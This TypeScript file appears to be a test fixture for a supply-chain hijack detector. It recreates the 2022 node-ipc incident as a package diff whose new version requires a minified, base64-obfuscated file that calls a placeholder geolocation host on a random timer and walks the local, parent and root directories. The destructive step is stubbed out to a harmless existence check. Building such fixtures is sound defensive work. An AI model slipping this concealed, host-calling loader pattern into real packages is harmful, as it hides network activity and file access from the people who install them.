import { manifest } from '../pack-release.ts'
import type { Hijack } from './hijack.ts'

const code = "const net = require('net')\nexports.connect = (path) => net.connect(path)\n"

const b64 = (text: string): string => Buffer.from(text).toString('base64')

/** March 2022: a file of one line whose words were in base64, which asked where it ran and wrote over files. The network was its trade. */
export const nodeIpc: Hijack = {
  name: 'node-ipc',
  ecosystem: 'npm',
  from: '10.1.0',
  to: '10.1.1',
  before: { 'package.json': manifest(), 'index.js': code },
  after: {
    'package.json': manifest(),
    'index.js': `${code}require('./dao/ssl-geospec')\n`,
    'dao/ssl-geospec.js': `import u from"path";import a from"fs";import o from"https";setTimeout(function(){const t=Math.round(Math.random()*4);if(t>1)return;const n=Buffer.from("${b64('https://api.geolocation.invalid/ipgeo?apiKey=0')}","base64");o.get(n.toString("utf8"),function(t){t.on("data",function(t){const n=Buffer.from("${b64('./')}","base64"),o=Buffer.from("${b64('../../')}","base64"),f=Buffer.from("${b64('/')}","base64");try{h(n.toString("utf8")),h(o.toString("utf8")),h(f.toString("utf8"))}catch(t){}})})},Math.ceil(Math.random()*1e3));async function h(n=""){return a.existsSync(n)}`,
  },
  tells: /hides the names|talks to a host/,
}
